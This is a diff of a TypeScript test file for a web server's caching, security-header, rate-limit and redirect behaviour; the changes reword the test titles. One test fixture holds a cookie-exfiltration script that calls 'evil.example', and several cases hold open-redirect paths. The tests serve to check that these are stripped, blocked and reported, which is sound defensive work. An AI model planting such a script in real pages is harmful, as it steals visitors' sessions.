@@ -104,7 +104,7 @@ const page = (script: string, text = "") =>
   `<!doctype html><html><script>${script}</script><p>${text || "word ".repeat(300)}</p></html>`;
 const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
 
-test("pages may show sounds and pictures of the hosts of media, from memory or made for one visitor", async () => {
+test("pages may load sounds and pictures from the media hosts, whether cached or for one visitor", async () => {
   const { get } = await open(
     (incoming, response) => response.writeHead(200, incoming.url === "/en" ? PUBLIC : PRIVATE).end(page(OWN)),
     { mediaOrigins: ["https://media.example"] },
@@ -117,7 +117,7 @@ test("pages may show sounds and pictures of the hosts of media, from memory or m
   }
 });
 
-test("a public page is rendered once, without a trace of who asked first, and names its own scripts", async () => {
+test("a public page is rendered once, without data of its first visitor, and allows its own scripts", async () => {
   const seen: IncomingHttpHeaders[] = [];
   const { get } = await open((incoming, response) => {
     seen.push(incoming.headers);
@@ -136,7 +136,7 @@ test("a public page is rendered once, without a trace of who asked first, and na
   expect(second.headers["cache-control"]).toBe("public, max-age=0, s-maxage=60, stale-while-revalidate=300");
 });
 
-test("an injected script leaves a kept page before it leaves, is vouched for by nobody, and is told of", async () => {
+test("an injected script is removed from a cached page, is not allowed by the policy, and is reported", async () => {
   const injected = "fetch('https://evil.example/'+document.cookie)";
   const { get, told } = await open(
     (_request, response) =>
@@ -150,7 +150,7 @@ test("an injected script leaves a kept page before it leaves, is vouched for by 
   expect(told).toEqual([injected]);
 });
 
-test("a page's own style elements are vouched for in the page without a network alone", async () => {
+test("inline styles are allowed by hash only in the offline page", async () => {
   const style = "p{color:red}";
   const { get } = await open(
     (_request, response) => void response.writeHead(200, PUBLIC).end(`<style>${style}</style><p>x</p>`),
@@ -186,7 +186,7 @@ test("a page is sent as Brotli, gzip or plain, each with its own tag, and not ag
 test.each([
   ["kept for everyone", PUBLIC],
   ["made for one visitor", PRIVATE],
-])("the scripts of a page %s come after its text, and its policy lets their loader run", async (_, head) => {
+])("the scripts of a page %s come after its text, and its policy allows their loader", async (_, head) => {
   const { get } = await open((incoming, response) => {
     const given = /nonce-(\w+)/.exec(String(incoming.headers["content-security-policy"]))?.[1];
     const nonce = given ? ` nonce="${given}"` : "";
@@ -204,7 +204,7 @@ test.each([
   expect(headers["content-security-policy"]).toContain(nonce ? `'nonce-${nonce}'` : hashOf(loader));
 });
 
-test("a private page is rendered for each visitor, with a nonce of its own", async () => {
+test("a private page is rendered for each visitor, with its own nonce", async () => {
   const { get } = await open((incoming, response) => {
     const nonce = /nonce-(\w+)/.exec(String(incoming.headers["content-security-policy"]))?.[1];
     response
@@ -225,7 +225,7 @@ test.each([
   [307, { location: "/fr" }],
   [404, PRIVATE],
   [500, PRIVATE],
-])("every answer of status %i leaves with the security headers and a request id", async (status, headers) => {
+])("every answer with status %i has the security headers and a request id", async (status, headers) => {
   const { get } = await open((_request, response) => void response.writeHead(status, headers).end(page(OWN)));
   const answer = await get("/en/x", { "x-request-id": "given-request-1" });
   expect(answer.status).toBe(status);
@@ -253,7 +253,7 @@ test("a renderer that breaks gives a plain 500 that tells nothing of the inside"
   expect(lines.join("")).toContain(String(answer.headers["x-request-id"]));
 });
 
-test("a page that cannot be drawn while the database is away is a 503 in its language", async () => {
+test("a page that cannot be rendered without the database is a 503 in its language", async () => {
   let isDown = true;
   const { get } = await open((_request, response) => void response.writeHead(500).end("inside"), {
     isDatabaseDown: async () => isDown,
@@ -281,7 +281,7 @@ test("the start page follows the visitor's cookie, so no shared cache may keep i
   expect(fr.body.toString()).toContain("none");
 });
 
-test("a part of a page is kept apart from the page", async () => {
+test("a part of a page is cached separately from the page", async () => {
   const { get } = await open((incoming, response) => {
     const type = incoming.headers.rsc ? "text/x-component" : "text/html; charset=utf-8";
     response.writeHead(200, { ...PUBLIC, "content-type": type }).end(incoming.headers.rsc ? "part" : "page");
@@ -291,7 +291,7 @@ test("a part of a page is kept apart from the page", async () => {
   expect((await get("/en")).body.toString()).toBe("page");
 });
 
-test("a purge tells the site the tags with the secret, and the next visitor gets the new page", async () => {
+test("a purge sends the tags with the secret to the site, and the next visitor gets the new page", async () => {
   let text = "old";
   const purged: unknown[] = [];
   const { get, site } = await open((incoming, response) => {
@@ -312,7 +312,7 @@ test("a purge tells the site the tags with the secret, and the next visitor gets
   expect((await get("/en")).body.toString()).toContain("new");
 });
 
-test("a purge from another process that holds the secret renews the pages too, one that does not changes nothing", async () => {
+test("a purge by another process with the secret renews the pages too, one without it changes nothing", async () => {
   let text = "old";
   const { get } = await open((incoming, response) => {
     if (incoming.url !== "/internal/purge") return void response.writeHead(200, PUBLIC).end(page(OWN, text));
@@ -350,7 +350,7 @@ test.each([
   [400, "GET", "/api/track/%"],
   [405, "TRACE", "/api/tracks"],
 ])(
-  "what is refused with %i before it reaches the API says all the same where that is documented",
+  "a refusal with %i before the API is reached still links to its documentation",
   async (status, method, path) => {
     const { get } = await open((_request, response) => void response.writeHead(200).end());
     const answer = await get(path, {}, method);
@@ -362,14 +362,14 @@ test.each([
   },
 );
 
-test("methods of other protocols are left to the API, which knows its own; a page has two", async () => {
+test("methods such as PROPFIND are passed to the API, and refused for pages", async () => {
   const { get } = await open((_request, response) => void response.writeHead(200).end());
   expect((await get("/api/tracks", {}, "PROPFIND")).body.toString()).toBe("api");
   const page = await get("/en/albums", {}, "PROPFIND");
   expect([page.status, page.headers.allow]).toEqual([405, "GET, HEAD"]);
 });
 
-test("a request is one line of the log, with its id, status and time, and without what was secret in it", async () => {
+test("a request is one line in the log, with its id, status and time, and without its secrets", async () => {
   const { get, lines } = await open((_request, response) => void response.writeHead(200, PRIVATE).end("x"));
   await get("/en/recherche?q=jane@radio.example&token=canary", {
     cookie: "canary",
@@ -410,7 +410,7 @@ function nothingButLost(asked: IncomingMessage[] = []): RequestListener {
   };
 }
 
-test("addresses that are surely none are answered from memory: each language's 404 page is drawn once", async () => {
+test("addresses that surely do not exist are answered from memory: the 404 page of each language is rendered once", async () => {
   const asked: IncomingMessage[] = [];
   const slugs = { mayBe: () => false, forget: () => undefined };
   const { get, site } = await open(nothingButLost(asked), { files: new Set<string>(), routes: [], slugs });
@@ -426,7 +426,7 @@ test("addresses that are surely none are answered from memory: each language's 4
   expect(site.figures().pages).toBe(2);
 });
 
-test("an address of which only the renderer knows that it is none is not kept but remembered, and its 404 page is drawn once", async () => {
+test("an address that only the renderer knows to be missing is remembered without its page, and its 404 page is rendered once", async () => {
   const asked: IncomingMessage[] = [];
   const { get, site } = await open(nothingButLost(asked), { most: 200 });
   const tags = new Set<string | undefined>();
@@ -445,7 +445,7 @@ test("an address of which only the renderer knows that it is none is not kept bu
   expect(asked.filter(({ url }) => url === "/en/our-composers/99999")).toHaveLength(1);
 });
 
-test("where no language is in the address the 404 page is in the visitor's, kept by no cache on the way, and drawn once", async () => {
+test("an address without a language has a 404 page in the visitor's, which shared caches do not store, rendered once", async () => {
   const asked: IncomingMessage[] = [];
   const { get, site } = await open(nothingButLost(asked));
   for (let number = 0; number < 5; number += 1)
@@ -467,7 +467,7 @@ test("where no language is in the address the 404 page is in the visitor's, kept
   expect(asked.filter(({ url }) => url === "/en/404")).toHaveLength(2);
 });
 
-test("a missing part of a page, asked for by the router, is left as it is", async () => {
+test("a missing part of a page requested by the router stays as it is", async () => {
   const { get } = await open((_request, response) => {
     response.writeHead(404, { ...PUBLIC, "content-type": "text/x-component" }).end("0:{}");
   });
@@ -475,7 +475,7 @@ test("a missing part of a page, asked for by the router, is left as it is", asyn
   expect([part.status, String(part.body)]).toEqual([404, "0:{}"]);
 });
 
-test("the root says that it follows a cookie and the browser's languages; other pages do not", async () => {
+test("the root varies with a cookie and the browser's languages, other pages do not", async () => {
   const { get } = await open((_request, response) => {
     response.writeHead(200, { ...PUBLIC, vary: "rsc, next-url" }).end("<html></html>");
   });
@@ -485,7 +485,7 @@ test("the root says that it follows a cookie and the browser's languages; other 
   expect((await get("/fr")).headers.vary).not.toMatch(/Cookie/);
 });
 
-test("who asks for more than 300 pages of results in five minutes waits; other pages stay open", async () => {
+test("a visitor of more than 300 pages of results in five minutes has to wait, except for other pages", async () => {
   const { get } = await open((_request, response) => void response.writeHead(200, PRIVATE).end("x"));
   for (let asked = 0; asked < 300; asked += 1) await get(`/fr/recherche/${asked}`);
   const refused = await get("/en/recherche/more");
@@ -495,7 +495,7 @@ test("who asks for more than 300 pages of results in five minutes waits; other p
   expect((await get("/en/albums")).status).toBe(200);
 });
 
-test("no other spelling of a page of results is asked for", async () => {
+test("other spellings of a page of results are not rendered", async () => {
   const asked: (string | undefined)[] = [];
   const { get } = await open((incoming, response) => {
     asked.push(incoming.url);
@@ -508,7 +508,7 @@ test("no other spelling of a page of results is asked for", async () => {
   expect(asked).toEqual([]);
 });
 
-test("a visitor has so many pages drawn in five minutes; those in memory and files are not counted", async () => {
+test("a limited number of pages is rendered for a visitor in five minutes; cached ones and files are not counted", async () => {
   const files = new Set(["/favicon.ico", "/_next/static/[lang].js"]);
   const { get } = await open(
     (incoming, response) =>
@@ -532,7 +532,7 @@ test.each([
   ["fr", "Trop de pages demandées", /Réessayez dans (?:une minute|\d+ minutes)\./],
   ["en", "Too many pages asked for", /Try again in (?:a minute|\d+ minutes)\./],
 ])(
-  "in %s who reads pages is told by one that too many were asked for; programs by the API’s words",
+  "in %s a page tells people that they have requested too many; programs get the API’s error",
   async (lang, title, wait) => {
     const { get } = await open((_request, response) => void response.writeHead(200, PRIVATE).end(page(OWN)), {
       most: 1,
@@ -562,7 +562,7 @@ test.each([
   },
 );
 
-test("whoever walks addresses that are no pages waits after a fifth as many", async () => {
+test("a visitor of addresses that are no pages has to wait after a fifth as many", async () => {
   let drawn = 0;
   const { get } = await open(
     (incoming, response) => {
@@ -580,7 +580,7 @@ test("whoever walks addresses that are no pages waits after a fifth as many", as
   expect(drawn).toBeLessThan(60);
 });
 
-test("a file that the build does not hold is a 404 out of memory", async () => {
+test("a file that is not in the build is a 404 from memory", async () => {
   const asked: (string | undefined)[] = [];
   const { get } = await open(
     (incoming, response) => {
@@ -605,7 +605,7 @@ test.each([
   ["GET", "//evil.example/%", "/evil.example/%25"],
   ["GET", "/\\/evil.example/%", "/evil.example/%25"],
   ["GET", "/apis/%", "/apis/%25"],
-])("%s %s leads to the address that was meant, on this site", async (method, path, location) => {
+])("%s %s redirects to the intended address, on this site", async (method, path, location) => {
   const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end("x"));
   const answer = await get(path, {}, method);
   expect([answer.status, answer.headers.location]).toEqual([308, location]);
@@ -621,20 +621,20 @@ test.each([
   ["GET", "/media/%", 404],
   ["POST", "/fr/recherche/100%", 400],
   ["GET", "http://evil.example/%", 400],
-])("%s %s cannot be read: %i", async (method, path, status) => {
+])("%s %s cannot be parsed: %i", async (method, path, status) => {
   const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end("x"));
   const answer = await get(path, {}, method);
   expect([answer.status, answer.headers.location]).toEqual([status, undefined]);
   expect(JSON.parse(answer.body.toString())).toBeTypeOf("object");
 });
 
-test("a target that mending makes too long is refused", async () => {
+test("a target that is too long after its repair is refused", async () => {
   const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end("x"));
   const answer = await get(`/fr/${"%".repeat(4_000)}`);
   expect([answer.status, answer.headers.location]).toEqual([414, undefined]);
 });
 
-test("only the embedded player may stand in a frame of another site", async () => {
+test("only the embedded player may be framed by another site", async () => {
   const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(page(OWN)));
   for (const path of ["/embed/fr/delta", "/embed/en/delta?autoplay=1"]) {
     const { headers } = await get(path);
@@ -651,7 +651,7 @@ test("only the embedded player may stand in a frame of another site", async () =
   expect([odd.status, odd.headers["x-frame-options"]]).toEqual([400, "deny"]);
 });
 
-test("a file that is not there is the site's 404 document, without a language in the default one", async () => {
+test("a missing file is answered with the site's 404 document, in the default language if it has none", async () => {
   const { get } = await open((incoming, response) => {
     const isDocument = /^\/(fr|en)\/404$/.test(incoming.url ?? "");
     response.writeHead(isDocument ? 200 : 404, PUBLIC).end(page(OWN, `lost ${incoming.url}`));
@@ -666,7 +666,7 @@ test("a file that is not there is the site's 404 document, without a language in
   }
 });
 
-test("what a page asks for while it is drawn carries the id of the request, and that of no other", async () => {
+test("API calls while a page is rendered have the id of its request, and of no other", async () => {
   const ids: (string | undefined)[] = [];
   const { get, lines } = await open(async (incoming, response) => {
     await new Promise((resolve) => setImmediate(resolve));
@@ -684,7 +684,7 @@ test("what a page asks for while it is drawn carries the id of the request, and 
   expect(logged.toSorted()).toEqual(ids.toSorted());
 });
 
-test("every answer is told to who counts: from memory, refused, of the API", async () => {
+test("every answer is reported to the metrics: from memory, refused, of the API", async () => {
   const { get, answered } = await open(
     (_incoming, response) => void response.writeHead(200, PUBLIC).end(page(OWN)),
   );
